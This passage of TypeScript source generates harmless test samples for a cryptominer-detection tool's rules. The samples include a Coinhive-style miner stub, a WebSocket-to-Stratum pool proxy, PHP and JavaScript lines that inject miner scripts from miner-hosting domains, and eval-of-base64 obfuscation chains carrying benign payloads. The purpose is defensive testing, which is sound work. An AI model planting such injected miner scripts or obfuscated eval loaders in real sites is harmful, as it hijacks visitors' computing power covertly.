      "ws.onopen = () => ws.send(JSON.stringify({ type: 'auth', params: { site_key: KEY, type: 'anonymous' } }));",
      'Miner.prototype.getHashesPerSecond = function () { return this._hps; };',
      'Miner.prototype.getTotalHashes = function () { return this._total; };',
      'Miner.prototype.setThrottle = function (t) { this._throttle = t; };',
      '',
    ].join('\n'),
  },
  {
    id: 'websocket-stratum-proxy',
    family: 'web-miners',
    kind: 'web-script',
    rules: ['MH_Web_WebSocket_Stratum_Proxy'],
    type: 'text',
    file: 'proxy.js',
    text: [
      "const WebSocket = require('ws');",
      "const net = require('net');",
      'const wss = new WebSocket.Server({ port: 8892 });',
      'wss.on("connection", (client) => {',
      `  const pool = net.connect(3333, '${POOL}');`,
      '  pool.write(\'{"id":1,"method":"login","params":{"login":"\' + wallet + \'","pass":"x"}}\\n\');',
      '  setInterval(() => pool.write(\'{"id":2,"method":"keepalived"}\\n\'), 60000);',
      '});',
      '',
    ].join('\n'),
  },
  {
    id: 'injected-script-tag',
    family: 'web-miners',
    kind: 'web-script',
    rules: ['MH_Web_Injected_Miner_Script_Tag'],
    type: 'text',
    file: 'footer.php',
    text: '<?php echo \'<script src="//cdn.example.invalid/js/deepminer.min.js"></script>\'; ?>\n',
  },
  {
    id: 'miner-script-host',
    family: 'web-miners',
    kind: 'web-script',
    rules: ['MH_Web_Miner_Script_Hosts'],
    type: 'text',
    file: 'analytics.js',
    text: "var s = document.createElement('script');\ns.src = 'https://www.hostingcloud.racing/Q89r.js';\ndocument.body.appendChild(s);\n",
  },
  {
    id: 'coinhive-style-clone',
    family: 'web-miners',
    kind: 'web-script',
    rules: ['MH_Web_CoinHive_Style_API'],
    type: 'text',
    file: 'clone.html',
    text: [
      '<script src="/js/leatmine.js"></script>',
      '<script>',
      'leatMine.CONFIG.WEBSOCKET_SHARDS = [["wss://proxy.example.invalid/"]];',
      "var m = new leatMine.Anonymous('SAMPLE_SITE_KEY', { throttle: 0.5 });",
      'm.start();',
      '</script>',
      '',
    ].join('\n'),
  },

  // ---- Obfuscated web code (rules/web-obfuscation.yar) ----
  {
    id: 'php-eval-decode-chain',
    family: 'web-obfuscation',
    kind: 'web-script',
    rules: ['MH_Web_PHP_Eval_Decode_Chain'],
    type: 'text',
    file: 'class-wp-cache.php',
    text: `<?php @eval(gzinflate(base64_decode('${deflateRawSync(Buffer.from("echo 'minehunter test sample';")).toString('base64')}'))); ?>\n`,
  },
  {
    id: 'js-eval-decoded',
    family: 'web-obfuscation',
    kind: 'web-script',
    rules: ['MH_Web_JS_Eval_Decoded_Script'],
    type: 'text',
    file: 'footer.js',
    text: `eval(atob('${Buffer.from('console.log("minehunter test sample")').toString('base64')}'));\n`,
  },

  // ---- WebAssembly miners (rules/web-wasm.yar) ----
  {
    id: 'wasm-randomx',
    family: 'web-wasm',
    kind: 'web-script',
    rules: ['MH_Web_Wasm_Miner_Hash_Exports'],
    type: 'bytes',
    file: 'rx.wasm',
    bytes: () => wasmModule('randomx_calculate_hash'),
  },
  {
    id: 'wasm-embedded-base64',
    family: 'web-wasm',
    kind: 'web-script',
    rules: ['MH_Web_Wasm_Embedded_Base64_Miner'],
    type: 'text',
    file: 'worker.js',
    text: `const CN = '${wasmModule().toString('base64')}';\nWebAssembly.instantiate(decode(CN)).then((m) => m.instance.exports.cryptonight_hash());\n`,
  },
];

/** Escapes a string as a C literal with octal escapes (unambiguous, unlike greedy \x escapes). */
function cString(s: string): string {
  let out = '"';
  for (const byte of Buffer.from(s, 'latin1')) {
    if (byte === 0x22 || byte === 0x5c) out += '\\' + String.fromCharCode(byte);
    else if (byte >= 0x20 && byte < 0x7f && byte !== 0x3f) out += String.fromCharCode(byte);
    else out += '\\' + byte.toString(8).padStart(3, '0');
  }
  return out + '"';
}

function cSource(sample: CSample): string {
  const lines = [
    `/* minehunter harmless test sample "${sample.id}": carries the strings and constants a content`,
    ' * rule looks for, and nothing else; it contains no mining or hooking code. */',
    '#include <stdio.h>',
  ];
  sample.strings.forEach((s, i) => {
    lines.push(`__attribute__((used)) static const char s${i}[] = ${cString(s)};`);
  });
  if (sample.u64) {
    const values = sample.u64.map((v) => `0x${v.toString(16)}ULL`).join(', ');
    lines.push(`__attribute__((used)) static const unsigned long long k64[] = { ${values} };`);
  }
  if (sample.u32) {
    const values = sample.u32.map((v) => `0x${v.toString(16).padStart(8, '0')}u`).join(', ');
    lines.push(`__attribute__((used)) static const unsigned int k32[] = { ${values} };`);
  }
  const say = `minehunter harmless test sample: ${sample.id}`;
  if (sample.link === 'exe') lines.push(`int main(void) { return puts(${cString(say)}) < 0; }`);
  else lines.push(`int minehunter_sample_marker(void) { return puts(${cString(say)}) < 0; }`);
  return lines.join('\n') + '\n';
}

async function compile(sample: CSample, out: string, workDir: string): Promise<void> {
  const src = path.join(workDir, `${sample.id}.c`);
  await writeFile(src, cSource(sample));
  const flags = { exe: [], shared: ['-shared', '-fPIC'], object: ['-c'] }[sample.link];
  try {
    await execFileP('cc', ['-O0', '-w', ...flags, '-o', out, src]);
  } catch (cause) {
    const stderr = (cause as { stderr?: string }).stderr ?? String(cause);
    throw new Error(`cannot compile sample ${sample.id} with cc (is a C compiler installed?)\n${stderr}`, {
      cause,
    });
  }
}

/**
 * Writes every sample (or those whose ids are listed in `only`) under `dir`, one sub-directory per
 * sample so file names can be realistic (config.json, Dockerfile) without clashing. The C sources
 * go to a separate temporary directory, so `dir` holds only the samples themselves.
 */
export async function generateSamples(dir: string, only?: readonly string[]): Promise<GeneratedSample[]> {
  const chosen = only ? SAMPLES.filter((s) => only.includes(s.id)) : SAMPLES;
  const workDir = await mkdtemp(path.join(os.tmpdir(), 'minehunter-sample-src-'));
  const result: GeneratedSample[] = [];
  // Two compilers at a time: the machines this runs on have two cores.
  const queue = [...chosen];
  const worker = async (): Promise<void> => {
    for (let sample = queue.shift(); sample; sample = queue.shift()) {
      const sampleDir = path.join(dir, sample.id);
      await mkdir(sampleDir, { recursive: true });
      const out = path.join(sampleDir, sample.file);
      if (sample.type === 'c') await compile(sample, out, workDir);
      else if (sample.type === 'bytes') await writeFile(out, sample.bytes());
      else if (sample.utf16)
        await writeFile(out, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(sample.text, 'utf16le')]));
      else await writeFile(out, sample.text);
      const { id, family, kind, rules, type, mention } = sample;
      result.push({ id, family, kind, rules, type, path: out, ...(mention ? { mention } : {}) });
    }
  };
  try {
    await Promise.all([worker(), worker()]);
  } finally {
    await rm(workDir, { recursive: true, force: true });
  }
  return result.sort((a, b) => a.id.localeCompare(b.id));
}
